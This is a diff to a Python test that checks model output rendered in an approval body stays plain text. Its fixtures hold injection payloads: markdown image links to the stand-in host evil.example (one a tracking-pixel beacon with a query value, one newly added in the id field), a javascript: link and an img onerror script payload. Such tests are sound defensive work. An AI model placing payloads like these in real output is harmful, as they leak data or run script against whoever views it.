@@ -89,7 +89,8 @@ def test_model_output_in_the_approval_body_stays_text():
 
     dag = load_dag()
     approve = dag.get_task("approve")
-    examples = [{"id": "p1", "turns": 1, "reasoning_content": "![pixel](http://evil.example/p.png?k=1)",
+    examples = [{"id": "p1 ![id](http://evil.example/id.png)", "turns": 1,  # ids come from the prompt file
+                 "reasoning_content": "![pixel](http://evil.example/p.png?k=1)",
                  "content": "[click](javascript:alert(1)) <img src=x onerror=alert(1)>\n# Heading"}]
 
     class TaskInstance:
